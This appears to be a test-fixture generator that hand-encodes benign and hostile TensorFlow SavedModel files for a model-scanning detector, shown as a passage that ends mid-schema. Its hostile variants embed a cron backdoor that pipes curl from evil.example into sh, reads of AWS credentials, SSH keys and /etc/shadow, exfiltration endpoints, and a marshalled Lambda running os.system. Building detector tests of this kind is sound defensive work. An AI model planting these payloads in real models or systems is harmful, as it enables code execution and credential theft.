#!/usr/bin/python3
"""Writes SavedModel graphs for the SavedModel detector's tests into <testdata>/savedmodel_scan/.

TensorFlow is not packaged by Debian, so the protobuf wire format is encoded by hand from the field numbers
of TensorFlow's saved_model.proto, meta_graph.proto, graph.proto, node_def.proto, function.proto,
op_def.proto, attr_value.proto, tensor.proto, saver.proto and saved_object_graph.proto, and Keras's
saved_metadata.proto. Fields are written in field-number order with proto3 defaults omitted, as protoc's
serializers do. When Debian's python3-protobuf is importable, every file is parsed by the real library and
re-serialized byte for byte (deterministic mode), which proves the encoding is faithful.

benign_keras.pb mirrors what tf.keras (TF 2.15) writes for a small Sequential model: variables
(VarHandleOp) read in library functions called through StatefulPartitionedCall, a serving signature, the
standard save/restore functions fed by the `saver_filename` placeholder (StaticRegexFullMatch "^s3://.*",
StringJoin, ShardedFilename, SaveV2, MergeV2Checkpoints, RestoreV2, DisableCopyOnRead), a vocabulary
initialised from an asset, and the Keras metadata of every layer in the object graph. benign_tf1.pb mirrors
a TF1 Estimator/Saver export (save/Const filename, asset path constant). Every other file adds one kind of
hostile node to such a skeleton.
"""
import base64
import json
import marshal
import os
import sys

from protobuf_wire import (DT_FLOAT, DT_INT32, DT_INT64, DT_RESOURCE, DT_STRING, f_bytes, f_message,
                           f_repeated_bytes, f_varint, message_classes, node, reparse, string_map, tensor,
                           tensor_shape)


def const_string(name, *values):
    dims = [] if len(values) == 1 else [len(values)]
    return node(name, "Const", attrs={"dtype": ("type", DT_STRING),
                                      "value": ("tensor", tensor(DT_STRING, dims, strings=values))})


def const_int(name, value):
    return node(name, "Const", attrs={"dtype": ("type", DT_INT32), "value": ("tensor", tensor(DT_INT32, [], ints=[value]))})


def function(name, inputs, outputs, nodes, ret):
    # FunctionDef { signature = 1 (OpDef { name = 1; input_arg = 2; output_arg = 3; }); node_def = 3; ret = 4; }
    arg = lambda a: f_bytes(1, a[0]) + f_varint(3, a[1])
    signature = (f_bytes(1, name) + b"".join(f_message(2, arg(a)) for a in inputs) +
                 b"".join(f_message(3, arg(a)) for a in outputs))
    return f_message(1, signature) + b"".join(f_message(3, n) for n in nodes) + string_map(4, ret)


def call(name, callee, inputs, tin, tout):
    return node(name, "StatefulPartitionedCall", inputs, {
        "f": ("func", callee), "Tin": ("list_type", tin), "Tout": ("list_type", tout),
        "_collective_manager_ids": ("list_s", []), "_read_only_resource_inputs": ("list_i", [1, 2, 3, 4]),
        "config": ("s", ""), "config_proto": ("s", b"\n\x07\n\x03CPU\x10\x01\n\x07\n\x03GPU\x10\x002\x02J\x008\x01\x82\x01\x00"),
        "executor_type": ("s", "")})


# --------------------------------------------------------------------------------------------------
# A TF2 Keras export.

CALL_FN = "__inference__wrapped_model_1302"
SIGNATURE_FN = "__inference_signature_wrapper_1427"
SAVE_FN = "__inference__traced_save_1512"
RESTORE_FN = "__inference__traced_restore_1546"
LOOKUP_FN = "__inference__initializer_1388"
VARIABLES = ["dense/kernel", "dense/bias", "dense_1/kernel", "dense_1/bias"]


def variable(name, dims):
    return node(name, "VarHandleOp", attrs={"_class": ("list_s", [b"loc:@" + name.encode()]), "allowed_devices": ("list_s", []),
                                            "container": ("s", ""), "dtype": ("type", DT_FLOAT),
                                            "shape": ("shape", dims), "shared_name": ("s", name)})


def keras_main_nodes():
    nodes = [node("serving_default_dense_input", "Placeholder",
                  attrs={"dtype": ("type", DT_FLOAT), "shape": ("shape", [-1, 4])}),
             node("saver_filename", "Placeholder", attrs={"dtype": ("type", DT_STRING), "shape": ("shape", [])})]
    for name, dims in zip(VARIABLES, [[4, 8], [8], [8, 3], [3]]):
        nodes.append(variable(name, dims))
        nodes.append(node(name + "/Read/ReadVariableOp", "ReadVariableOp", [name], {"dtype": ("type", DT_FLOAT)}))
    # The checkpointable object graph the save function writes, and the table the vocabulary fills.
    nodes.append(const_string("Const", b"\n\x1c\n\x05\x08\x01\x12\x01x\n\x05\x08\x02\x12\x01y\x12\x0cdense/kernel"))
    nodes.append(node("hash_table", "HashTableV2", attrs={"key_dtype": ("type", DT_STRING), "value_dtype": ("type", DT_INT64),
                                                          "shared_name": ("s", "hash_table_/tmp/vocab.txt_-2_-1"),
                                                          "use_node_name_sharing": ("b", True)}))
    nodes.append(node("asset_path_initializer", "Placeholder", attrs={"dtype": ("type", DT_STRING), "shape": ("shape", [])}))
    nodes.append(call("StatefulPartitionedCall", SIGNATURE_FN, ["serving_default_dense_input"] + VARIABLES,
                      [DT_FLOAT] + [DT_RESOURCE] * 4, [DT_FLOAT]))
    nodes.append(call("StatefulPartitionedCall_1", SAVE_FN,
                      ["saver_filename"] + [v + "/Read/ReadVariableOp" for v in VARIABLES] + ["Const"],
                      [DT_STRING] + [DT_FLOAT] * 4 + [DT_STRING], [DT_STRING]))
    nodes.append(call("StatefulPartitionedCall_2", RESTORE_FN, ["saver_filename"] + VARIABLES,
                      [DT_STRING] + [DT_RESOURCE] * 4, [DT_STRING]))
    nodes.append(call("StatefulPartitionedCall_3", LOOKUP_FN, ["asset_path_initializer", "hash_table"],
                      [DT_STRING, DT_RESOURCE], []))
    nodes.append(node("NoOp", "NoOp", ["^StatefulPartitionedCall_3"]))
    return nodes


def keras_library(extra_functions=()):
    dense = lambda i, x, suffix: [
        node(f"sequential/dense{suffix}/MatMul/ReadVariableOp", "ReadVariableOp", [f"readvariableop_resource_{i}"],
             {"dtype": ("type", DT_FLOAT)}),
        node(f"sequential/dense{suffix}/MatMul", "MatMul", [x, f"sequential/dense{suffix}/MatMul/ReadVariableOp:value:0"],
             {"T": ("type", DT_FLOAT)}),
        node(f"sequential/dense{suffix}/BiasAdd/ReadVariableOp", "ReadVariableOp", [f"readvariableop_resource_{i + 1}"],
             {"dtype": ("type", DT_FLOAT)}),
        node(f"sequential/dense{suffix}/BiasAdd", "BiasAdd",
             [f"sequential/dense{suffix}/MatMul:product:0", f"sequential/dense{suffix}/BiasAdd/ReadVariableOp:value:0"],
             {"T": ("type", DT_FLOAT), "data_format": ("s", "NHWC")}),
    ]
    call_nodes = dense(0, "dense_input", "") + [
        node("sequential/dense/Relu", "Relu", ["sequential/dense/BiasAdd:output:0"], {"T": ("type", DT_FLOAT)})
    ] + dense(2, "sequential/dense/Relu:activations:0", "_1") + [
        node("sequential/dense_1/Softmax", "Softmax", ["sequential/dense_1/BiasAdd:output:0"], {"T": ("type", DT_FLOAT)}),
        node("NoOp", "NoOp", ["^sequential/dense/BiasAdd/ReadVariableOp", "^sequential/dense/MatMul/ReadVariableOp"]),
        node("Identity", "Identity", ["sequential/dense_1/Softmax:softmax:0", "^NoOp"], {"T": ("type", DT_FLOAT)}),
    ]
    resources = [(f"readvariableop_resource_{i}", DT_RESOURCE) for i in range(4)]
    call_fn = function(CALL_FN, [("dense_input", DT_FLOAT)] + resources, [("identity", DT_FLOAT)], call_nodes,
                       {"identity": "Identity:output:0"})
    signature_fn = function(SIGNATURE_FN, [("dense_input", DT_FLOAT)] + [(f"unknown_{i}", DT_RESOURCE) for i in range(4)],
                            [("identity", DT_FLOAT)], [
        call("StatefulPartitionedCall", CALL_FN, ["dense_input"] + [f"unknown_{i}" for i in range(4)],
             [DT_FLOAT] + [DT_RESOURCE] * 4, [DT_FLOAT]),
        node("Identity", "Identity", ["StatefulPartitionedCall:output:0", "^NoOp"], {"T": ("type", DT_FLOAT)}),
        node("NoOp", "NoOp", ["^StatefulPartitionedCall"]),
    ], {"identity": "Identity:output:0"})
    names = [b"layer_with_weights-0/kernel/.ATTRIBUTES/VARIABLE_VALUE", b"layer_with_weights-0/bias/.ATTRIBUTES/VARIABLE_VALUE",
             b"layer_with_weights-1/kernel/.ATTRIBUTES/VARIABLE_VALUE", b"layer_with_weights-1/bias/.ATTRIBUTES/VARIABLE_VALUE",
             b"_CHECKPOINTABLE_OBJECT_GRAPH"]
    save_fn = function(SAVE_FN, [("file_prefix", DT_STRING)] + [(f"savev2_read_{i}", DT_FLOAT) for i in range(4)] +
                       [("savev2_const", DT_STRING)], [("identity_1", DT_STRING)], [
        node("StaticRegexFullMatch", "StaticRegexFullMatch", ["file_prefix"], {"pattern": ("s", "^s3://.*")}, "/device:CPU:*"),
        const_string("Const", ".part"),
        const_string("Const_1", "_temp/part"),
        node("Select", "Select", ["StaticRegexFullMatch:output:0", "Const:output:0", "Const_1:output:0"],
             {"T": ("type", DT_STRING)}, "/device:CPU:*"),
        node("StringJoin", "StringJoin", ["file_prefix", "Select:output:0"], {"N": ("i", 2)}, "/device:CPU:*"),
        const_int("num_shards", 1),
        const_int("ShardedFilename/shard", 0),
        node("ShardedFilename", "ShardedFilename", ["StringJoin:output:0", "ShardedFilename/shard:output:0",
                                                     "num_shards:output:0"], device="/device:CPU:0"),
        const_string("SaveV2/tensor_names", *names),
        const_string("SaveV2/shape_and_slices", *([b""] * 5)),
        node("SaveV2", "SaveV2", ["ShardedFilename:filename:0", "SaveV2/tensor_names:output:0",
                                  "SaveV2/shape_and_slices:output:0"] + [f"savev2_read_{i}" for i in range(4)] +
             ["savev2_const", "^NoOp"], {"dtypes": ("list_type", [DT_FLOAT] * 4 + [DT_STRING])}, "/device:CPU:0"),
        node("MergeV2Checkpoints/checkpoint_prefixes", "Pack", ["ShardedFilename:filename:0", "^SaveV2"],
             {"N": ("i", 1), "T": ("type", DT_STRING)}, "/device:CPU:0"),
        node("MergeV2Checkpoints", "MergeV2Checkpoints", ["MergeV2Checkpoints/checkpoint_prefixes:output:0", "file_prefix"],
             {"allow_missing_files": ("b", False)}, "/device:CPU:0"),
        node("Identity", "Identity", ["file_prefix", "^MergeV2Checkpoints"], {"T": ("type", DT_STRING)}),
        node("Identity_1", "Identity", ["Identity:output:0", "^NoOp"], {"T": ("type", DT_STRING)}),
        node("NoOp", "NoOp"),
    ], {"identity_1": "Identity_1:output:0"})
    restore_nodes = [
        const_string("RestoreV2/tensor_names", *names),
        const_string("RestoreV2/shape_and_slices", *([b""] * 5)),
        node("RestoreV2", "RestoreV2", ["file_prefix", "RestoreV2/tensor_names:output:0", "RestoreV2/shape_and_slices:output:0"],
             {"dtypes": ("list_type", [DT_FLOAT] * 4 + [DT_STRING])}, "/device:CPU:0"),
    ]
    for i in range(4):
        restore_nodes += [
            node(f"Identity_{i}", "Identity", [f"RestoreV2:tensors:{i}"], {"T": ("type", DT_FLOAT)}),
            node(f"DisableCopyOnRead_{i}", "DisableCopyOnRead", [f"variable_{i}"]),
            node(f"AssignVariableOp_{i}", "AssignVariableOp", [f"variable_{i}", f"Identity_{i}:output:0"],
                 {"dtype": ("type", DT_FLOAT), "validate_shape": ("b", True)}),
        ]
    restore_nodes += [node("NoOp_1", "NoOp", [f"^AssignVariableOp_{i}" for i in range(4)]),
                      node("Identity_4", "Identity", ["file_prefix", "^NoOp_1"], {"T": ("type", DT_STRING)})]
    restore_fn = function(RESTORE_FN, [("file_prefix", DT_STRING)] + [(f"variable_{i}", DT_RESOURCE) for i in range(4)],
                          [("identity_5", DT_STRING)], restore_nodes, {"identity_5": "Identity_4:output:0"})
    lookup_fn = function(LOOKUP_FN, [("asset_path", DT_STRING), ("table", DT_RESOURCE)], [], [
        node("InitializeTableFromTextFileV2", "InitializeTableFromTextFileV2", ["table", "asset_path"],
             {"key_index": ("i", -2), "value_index": ("i", -1), "delimiter": ("s", "\t"), "offset": ("i", 0),
              "vocab_size": ("i", -1)}),
    ], {})
    # FunctionDefLibrary { repeated FunctionDef function = 1; }
    return b"".join(f_message(1, fn) for fn in [call_fn, signature_fn, save_fn, restore_fn, lookup_fn] + list(extra_functions))


def layer_metadata(class_name, name, config, extra=None):
    body = {"name": name, "trainable": True, "expects_training_arg": False, "dtype": "float32",
            "batch_input_shape": None, "stateful": False, "must_restore_from_config": False,
            "preserve_input_structure_in_config": False, "autocast": True, "class_name": class_name, "config": config}
    body.update(extra or {})
    return json.dumps(body)


DENSE = lambda name, units, activation: {
    "name": name, "trainable": True, "dtype": "float32", "units": units, "activation": activation, "use_bias": True,
    "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
    "bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": None, "bias_regularizer": None,
    "activity_regularizer": None, "kernel_constraint": None, "bias_constraint": None}
SEQUENTIAL = {"name": "sequential", "layers": [
    {"class_name": "InputLayer", "config": {"batch_input_shape": {"class_name": "__tuple__", "items": [None, 4]},
                                            "dtype": "float32", "sparse": False, "ragged": False, "name": "dense_input"}},
    {"class_name": "Dense", "config": DENSE("dense", 8, "relu")},
    {"class_name": "Dense", "config": DENSE("dense_1", 3, "softmax")}]}
SPEC = {"class_name": "TypeSpec", "type_spec": "tf.TensorSpec",
        "serialized": [{"class_name": "TensorShape", "items": [None, 4]}, "float32", "dense_input"]}
ROOT_METADATA = layer_metadata("Sequential", "sequential", SEQUENTIAL, {
    "expects_training_arg": True, "shared_object_id": 7, "is_graph_network": True,
    "build_input_shape": {"class_name": "TensorShape", "items": [None, 4]},
    "full_save_spec": {"class_name": "__tuple__", "items": [[SPEC], {}]}, "save_spec": SPEC,
    "keras_version": "2.15.0", "backend": "tensorflow", "model_config": {"class_name": "Sequential", "config": SEQUENTIAL},
    "training_config": {"loss": "sparse_categorical_crossentropy", "metrics": [[{"class_name": "MeanMetricWrapper",
        "config": {"name": "accuracy", "dtype": "float32", "fn": "sparse_categorical_accuracy"}}]],
        "weighted_metrics": None, "loss_weights": None,
        "optimizer_config": {"class_name": "Custom>Adam", "config": {"name": "Adam", "learning_rate": 0.001,
                             "beta_1": 0.9, "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False, "jit_compile": False,
                             "is_legacy_optimizer": False}}}})

LAMBDA_CODE = compile("lambda x: __import__('os').system('touch /tmp/pwned') or x", "<keras>", "eval").co_consts[0]
LAMBDA_CONFIG = {"name": "lambda", "trainable": True, "dtype": "float32",
                 "function": {"class_name": "__tuple__",
                              "items": [base64.encodebytes(marshal.dumps(LAMBDA_CODE)).decode("ascii"), None, None]},
                 "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw",
                 "output_shape_module": None, "arguments": {}}


def object_graph(metadata_by_node):
    # SavedObjectGraph { nodes = 1 (SavedObject { children = 1; user_object = 4 (SavedUserObject
    #   { identifier = 1; version = 2; metadata = 3; }) }) }
    version = f_varint(1, 1) + f_varint(2, 1)
    out = b""
    for identifier, metadata in metadata_by_node:
        out += f_message(1, f_message(4, f_bytes(1, identifier) + f_message(2, version) + f_bytes(3, metadata)))
    return out


def meta_graph(nodes, library, saver=True, assets=(), objects=(), tags=("serve",)):
    # MetaInfoDef { stripped_op_list = 2; tags = 4; tensorflow_version = 5; tensorflow_git_version = 6; }
    info = f_repeated_bytes(4, tags) + f_bytes(5, "2.15.0") + f_bytes(6, "v2.15.0-rc1-8-g6887368d6d4")
    graph = b"".join(f_message(1, n) for n in nodes) + f_message(2, library) + f_message(4, f_varint(1, 1645))
    out = f_message(1, info) + f_message(2, graph)
    if saver:  # SaverDef { filename_tensor_name = 1; save_tensor_name = 2; restore_op_name = 3; version = 7; }
        out += f_message(3, f_bytes(1, "saver_filename:0") + f_bytes(2, "StatefulPartitionedCall_1:0") +
                         f_bytes(3, "StatefulPartitionedCall_2") + f_varint(7, 2))
    # AssetFileDef { tensor_info = 1 (TensorInfo { name = 1; }); filename = 2; }
    out += b"".join(f_message(6, f_message(1, f_bytes(1, "asset_path_initializer:0")) + f_bytes(2, a)) for a in assets)
    if objects:
        out += f_message(7, object_graph(objects))
    return out


KERAS_OBJECTS = [("_tf_keras_sequential", ROOT_METADATA),
                 ("_tf_keras_layer", layer_metadata("Dense", "dense", DENSE("dense", 8, "relu"))),
                 ("_tf_keras_layer", layer_metadata("Dense", "dense_1", DENSE("dense_1", 3, "softmax")))]


def saved_model(*meta_graphs):
    return f_varint(1, 1) + b"".join(f_message(2, m) for m in meta_graphs)


def keras_model(extra_main=(), extra_functions=(), assets=("vocab.txt",), objects=tuple(KERAS_OBJECTS)):
    return saved_model(meta_graph(keras_main_nodes() + list(extra_main), keras_library(extra_functions),
                                  assets=assets, objects=objects))


def hostile_function(name, nodes):
    return function(name, [("input", DT_FLOAT)], [], nodes, {})


# --------------------------------------------------------------------------------------------------
# A TF1 Saver / Estimator export.

def tf1_model():
    nodes = [
        node("x", "Placeholder", attrs={"dtype": ("type", DT_FLOAT), "shape": ("shape", [-1, 4])}),
        node("w", "VariableV2", attrs={"dtype": ("type", DT_FLOAT), "shape": ("shape", [4, 1]), "container": ("s", ""),
                                       "shared_name": ("s", "")}),
        node("w/read", "Identity", ["w"], {"T": ("type", DT_FLOAT), "_class": ("list_s", [b"loc:@w"])}),
        node("MatMul", "MatMul", ["x", "w/read"], {"T": ("type", DT_FLOAT)}),
        const_string("save/Const", "model"),
        const_string("save/StringJoin/inputs_1", "_temp_6f1c0f0d8c3e4f3e8b0a4f1f2c9d7e61/part"),
        node("save/StringJoin", "StringJoin", ["save/Const", "save/StringJoin/inputs_1"], {"N": ("i", 2), "separator": ("s", "")}),
        const_int("save/num_shards", 1),
        const_int("save/ShardedFilename/shard", 0),
        node("save/ShardedFilename", "ShardedFilename", ["save/StringJoin", "save/ShardedFilename/shard", "save/num_shards"]),
        const_string("save/SaveV2/tensor_names", "w"),
        const_string("save/SaveV2/shape_and_slices", ""),
        node("save/SaveV2", "SaveV2", ["save/ShardedFilename", "save/SaveV2/tensor_names", "save/SaveV2/shape_and_slices", "w"],
             {"dtypes": ("list_type", [DT_FLOAT])}),
        node("save/control_dependency", "Identity", ["save/ShardedFilename", "^save/SaveV2"], {"T": ("type", DT_STRING)}),
        node("save/MergeV2Checkpoints/checkpoint_prefixes", "Pack", ["save/ShardedFilename", "^save/control_dependency"],
             {"N": ("i", 1), "T": ("type", DT_STRING)}),
        node("save/MergeV2Checkpoints", "MergeV2Checkpoints", ["save/MergeV2Checkpoints/checkpoint_prefixes", "save/Const"],
             {"delete_old_dirs": ("b", True)}),
        node("save/Identity", "Identity", ["save/Const", "^save/MergeV2Checkpoints", "^save/control_dependency"],
             {"T": ("type", DT_STRING)}),
        const_string("save/RestoreV2/tensor_names", "w"),
        const_string("save/RestoreV2/shape_and_slices", ""),
        node("save/RestoreV2", "RestoreV2", ["save/Const", "save/RestoreV2/tensor_names", "save/RestoreV2/shape_and_slices"],
             {"dtypes": ("list_type", [DT_FLOAT])}),
        node("save/Assign", "Assign", ["w", "save/RestoreV2"], {"T": ("type", DT_FLOAT), "use_locking": ("b", True),
                                                                "validate_shape": ("b", True)}),
        node("save/restore_shard", "NoOp", ["^save/Assign"]),
        node("save/restore_all", "NoOp", ["^save/restore_shard"]),
        # The loader feeds the asset's real location into this constant's tensor.
        const_string("asset_filepath", "/home/builder/export/vocab.txt"),
        node("string_to_index/hash_table", "HashTableV2", attrs={"key_dtype": ("type", DT_STRING),
                                                                 "value_dtype": ("type", DT_INT64)}),
        node("string_to_index/hash_table/table_init", "InitializeTableFromTextFileV2",
             ["string_to_index/hash_table", "asset_filepath"], {"key_index": ("i", -2), "value_index": ("i", -1)}),
        node("init_all_tables", "NoOp", ["^string_to_index/hash_table/table_init"]),
    ]
    info = f_repeated_bytes(4, ["serve"]) + f_bytes(5, "1.15.5")
    graph = b"".join(f_message(1, n) for n in nodes) + f_message(4, f_varint(1, 134))
    saver = (f_bytes(1, "save/Const:0") + f_bytes(2, "save/Identity:0") + f_bytes(3, "save/restore_all") +
             f_varint(4, 5) + f_varint(5, 1) + f_varint(7, 2))
    assets = f_message(6, f_message(1, f_bytes(1, "asset_filepath:0")) + f_bytes(2, "vocab.txt"))
    return saved_model(f_message(1, info) + f_message(2, graph) + f_message(3, saver) + assets)


# --------------------------------------------------------------------------------------------------
# Hostile variants.

HOSTILE = "__inference_call_666"


def hostile(nodes, main=()):
    return keras_model(extra_main=list(main), extra_functions=[hostile_function(HOSTILE, nodes)])


def files():
    out = {}
    out["benign_keras.pb"] = ("SavedModel", keras_model())
    out["benign_tf1.pb"] = ("SavedModel", tf1_model())
    out["file_write.pb"] = ("SavedModel", hostile([
        const_string("target", "/etc/cron.d/"),
        const_string("job", "backdoor"),
        node("path", "StringJoin", ["target:output:0", "job:output:0"], {"N": ("i", 2)}),
        const_string("payload", "* * * * * root curl evil.example | sh\n"),
        node("WriteFile", "WriteFile", ["path:output:0", "payload:output:0"]),
        node("PrintV2", "PrintV2", ["payload:output:0"], {"output_stream": ("s", "file:///tmp/exfil.log"), "end": ("s", "\n")}),
        node("PrintV2_1", "PrintV2", ["payload:output:0"], {"output_stream": ("s", "stderr"), "end": ("s", "\n")}),
        const_string("ckpt", "/var/lib/evil/ckpt"),
        node("SaveV2", "SaveV2", ["ckpt:output:0", "target:output:0", "job:output:0", "payload:output:0"],
             {"dtypes": ("list_type", [DT_STRING])}),
        const_string("logdir", "/home/victim/.bashrc.d"),
        node("summary_writer", "SummaryWriter", attrs={"shared_name": ("s", "w"), "container": ("s", "")}),
        node("CreateSummaryFileWriter", "CreateSummaryFileWriter", ["summary_writer:writer:0", "logdir:output:0"]),
        node("SaveDataset", "SaveDataset", ["input", "logdir:output:0"], {"compression": ("s", "")}),
    ]))
    out["file_read.pb"] = ("SavedModel", hostile([
        const_string("secret", "/root/.aws/credentials"),
        node("secret_alias", "Identity", ["secret:output:0"], {"T": ("type", DT_STRING)}),
        node("ReadFile", "ReadFile", ["secret_alias:output:0"]),
        const_string("pattern", "/home/*/.ssh/id_*"),
        node("MatchingFiles", "MatchingFiles", ["pattern:output:0"]),
        const_string("odd_ckpt", "../../../../etc/model.ckpt"),
        node("RestoreV2", "RestoreV2", ["odd_ckpt:output:0", "pattern:output:0", "pattern:output:0"],
             {"dtypes": ("list_type", [DT_FLOAT])}),
        const_string("local_ckpt", "variables/variables"),
        node("RestoreV2_1", "RestoreV2", ["local_ckpt:output:0", "pattern:output:0", "pattern:output:0"],
             {"dtypes": ("list_type", [DT_FLOAT])}),
        node("ImmutableConst", "ImmutableConst", attrs={"dtype": ("type", DT_FLOAT), "shape": ("shape", [4]),
                                                       "memory_region_name": ("s", "/dev/shm/region")}),
        const_string("vocab", "/etc/shadow"),
        node("InitializeTableFromTextFileV2", "InitializeTableFromTextFileV2", ["input", "vocab:output:0"],
             {"key_index": ("i", -2), "value_index": ("i", -1)}),
        node("TFRecordDataset", "TFRecordDataset", ["secret:output:0", "local_ckpt:output:0", "input"]),
        node("WholeFileReaderV2", "WholeFileReaderV2", attrs={"container": ("s", ""), "shared_name": ("s", "")}),
        node("ReaderReadV2", "ReaderReadV2", ["WholeFileReaderV2:reader_handle:0", "input"]),
        node("DecodeProtoV2", "DecodeProtoV2", ["input"], {"descriptor_source": ("s", "/tmp/descriptors.bin"),
                                                          "message_type": ("s", "x.Y")}),
        node("DecodeProtoV2_1", "DecodeProtoV2", ["input"], {"descriptor_source": ("s", "local://"),
                                                            "message_type": ("s", "x.Y")}),
    ]))
    out["network.pb"] = ("SavedModel", hostile([
        const_string("address", "evil.example:8470"),
        node("Rpc", "Rpc", ["address:output:0", "address:output:0", "address:output:0"], {"protocol": ("s", "grpc")}),
        node("DataServiceDatasetV4", "DataServiceDatasetV4", ["input", "input", "address:output:0", "input"]),
        node("CollectiveReduceV2", "CollectiveReduceV2", ["input", "input", "input", "input"],
             {"merge_op": ("s", "Add"), "final_op": ("s", "Id")}),
        node("DebugIdentity", "DebugIdentity", ["input"], {"debug_urls": ("list_s", [b"grpc://evil.example:6064"])}),
        const_string("remote", "gs://attacker-bucket/exfil"),
        node("ReadFile", "ReadFile", ["remote:output:0"]),
    ]))
    out["pyfunc.pb"] = ("SavedModel", hostile([
        node("EagerPyFunc", "EagerPyFunc", ["input"], {"token": ("s", "pyfunc_7"), "Tin": ("list_type", [DT_FLOAT]),
                                                       "Tout": ("list_type", [DT_FLOAT]), "is_async": ("b", False)}),
    ]))
    lambda_objects = list(KERAS_OBJECTS) + [("_tf_keras_layer", layer_metadata("Lambda", "lambda", LAMBDA_CONFIG))]
    out["pyfunc_lambda.pb"] = ("SavedModel", keras_model(
        extra_functions=[hostile_function(HOSTILE, [
            node("PyFunc", "PyFunc", ["input"], {"token": ("s", "pyfunc_0"), "Tin": ("list_type", [DT_FLOAT]),
                                                 "Tout": ("list_type", [DT_FLOAT])})])],
        objects=tuple(lambda_objects)))
    out["unknown_op.pb"] = ("SavedModel", hostile([
        node("gelu", "Addons>GeluCustom", ["input"], {"T": ("type", DT_FLOAT)}),
        node("gelu_1", "Addons>GeluCustom", ["gelu:output:0"], {"T": ("type", DT_FLOAT)}),
        node("tokenize", "SentencepieceTokenizeOp", ["input"], {"out_type": ("type", DT_INT32)}),
        node("inner", CALL_FN, ["input"]),
        node("fused", "_FusedMatMul", ["input", "input"], {"T": ("type", DT_FLOAT)}),
    ], main=[node("gelu_2", "Addons>GeluCustom", ["serving_default_dense_input"], {"T": ("type", DT_FLOAT)})]))
    out["asset_path.pb"] = ("SavedModel", keras_model(assets=("vocab.txt", "../../../etc/passwd", "/etc/hosts")))
    # 150 ReadFile nodes: the per-rule cap keeps 100 and summarises the rest.
    out["many_reads.pb"] = ("SavedModel", hostile([node(f"ReadFile_{i}", "ReadFile", ["input"]) for i in range(150)]))
    # A StringJoin diamond 40 levels deep (2^40 paths) and an Identity cycle: resolution must stay bounded.
    diamond = [const_string("leaf", "/x")]
    for i in range(40):
        below = "leaf" if i == 0 else f"join_{i - 1}"
        diamond.append(node(f"join_{i}", "StringJoin", [f"{below}:output:0", f"{below}:output:0"], {"N": ("i", 2)}))
    diamond += [node("WriteFile", "WriteFile", ["join_39:output:0", "leaf:output:0"]),
                node("loop_a", "Identity", ["loop_b:output:0"], {"T": ("type", DT_STRING)}),
                node("loop_b", "Identity", ["loop_a:output:0"], {"T": ("type", DT_STRING)}),
                node("ReadFile", "ReadFile", ["loop_a:output:0"])]
    out["adversarial_graph.pb"] = ("SavedModel", hostile(diamond))
    # Two MetaGraphs (serve, train) and a graph with no saver or library.
    out["two_meta_graphs.pb"] = ("SavedModel", saved_model(
        meta_graph(keras_main_nodes(), keras_library(), assets=("vocab.txt",)),
        meta_graph([node("ReadFile", "ReadFile", ["x"]), node("x", "Placeholder", attrs={"dtype": ("type", DT_STRING)})],
                   b"", saver=False, tags=("train",))))
    # keras_metadata.pb: SavedMetadata { nodes = 1 (SavedObject { node_id = 2; node_path = 3; identifier = 4;
    #   metadata = 5; version = 6; }) }
    version = f_varint(1, 2) + f_varint(2, 1)
    keras_nodes = [(0, "root", "_tf_keras_sequential", ROOT_METADATA),
                   (1, "root.layer_with_weights-0", "_tf_keras_layer", KERAS_OBJECTS[1][1]),
                   (2, "root.layer_with_weights-1", "_tf_keras_layer", KERAS_OBJECTS[2][1])]
    encode = lambda entries: b"".join(f_message(1, f_varint(2, i) + f_bytes(3, p) + f_bytes(4, ident) + f_bytes(5, meta) +
                                                f_message(6, version)) for i, p, ident, meta in entries)
    out["keras_metadata_benign.pb"] = ("SavedMetadata", encode(keras_nodes))
    sequential_with_lambda = dict(SEQUENTIAL, layers=SEQUENTIAL["layers"] + [{"class_name": "Lambda", "config": LAMBDA_CONFIG}])
    out["keras_metadata_lambda.pb"] = ("SavedMetadata", encode([
        (0, "root", "_tf_keras_sequential", layer_metadata("Sequential", "sequential", sequential_with_lambda)),
        (1, "root.layer-3", "_tf_keras_layer", layer_metadata("Lambda", "lambda", LAMBDA_CONFIG)),
        (2, "root.layer-4", "_tf_keras_layer", '{"class_name": "Dense", "config": {"name": "broken",'),
    ]))
    # An unrelated protobuf message (a TensorShapeProto) and a truncated SavedModel.
    out["other.pb"] = (None, tensor_shape([3, 224, 224]))
    out["truncated.pb"] = (None, keras_model()[:-7])
    return out


# --------------------------------------------------------------------------------------------------
# Cross-check with the real protobuf library (python3-protobuf), when installed.

SCHEMA = {
    "SavedModel": [("saved_model_schema_version", 1, "int64", False, None), ("meta_graphs", 2, "msg", True, "MetaGraphDef")],
    "MetaGraphDef": [("meta_info_def", 1, "msg", False, "MetaInfoDef"), ("graph_def", 2, "msg", False, "GraphDef"),
                     ("saver_def", 3, "msg", False, "SaverDef"), ("asset_file_def", 6, "msg", True, "AssetFileDef"),
                     ("object_graph_def", 7, "msg", False, "SavedObjectGraph")],
    "MetaInfoDef": [("tags", 4, "string", True, None), ("tensorflow_version", 5, "string", False, None),
                    ("tensorflow_git_version", 6, "string", False, None)],
    "GraphDef": [("node", 1, "msg", True, "NodeDef"), ("library", 2, "msg", False, "FunctionDefLibrary"),
                 ("versions", 4, "msg", False, "VersionDef")],
    "VersionDef": [("producer", 1, "int32", False, None), ("min_consumer", 2, "int32", False, None)],
    "NodeDef": [("name", 1, "string", False, None), ("op", 2, "string", False, None), ("input", 3, "string", True, None),
                ("device", 4, "string", False, None), ("attr", 5, "map", True, "AttrValue")],
    "AttrValue": [("list", 1, "msg", False, "ListValue"), ("s", 2, "bytes", False, None), ("i", 3, "int64", False, None),
                  ("b", 5, "bool", False, None), ("type", 6, "int32", False, None),
                  ("shape", 7, "msg", False, "TensorShapeProto"), ("tensor", 8, "msg", False, "TensorProto"),
                  ("func", 10, "msg", False, "NameAttrList")],
    "ListValue": [("s", 2, "bytes", True, None), ("i", 3, "int64", True, None), ("type", 6, "int32", True, None),
                  ("shape", 7, "msg", True, "TensorShapeProto")],
    "NameAttrList": [("name", 1, "string", False, None)],
    "TensorShapeProto": [("dim", 2, "msg", True, "Dim")],
    "Dim": [("size", 1, "int64", False, None)],
    "TensorProto": [("dtype", 1, "int32", False, None), ("tensor_shape", 2, "msg", False, "TensorShapeProto"),
                    ("int_val", 7, "int32", True, None), ("string_val", 8, "bytes", True, None)],
    "FunctionDefLibrary": [("function", 1, "msg", True, "FunctionDef")],
    "FunctionDef": [("signature", 1, "msg", False, "OpDef"), ("node_def", 3, "msg", True, "NodeDef"),
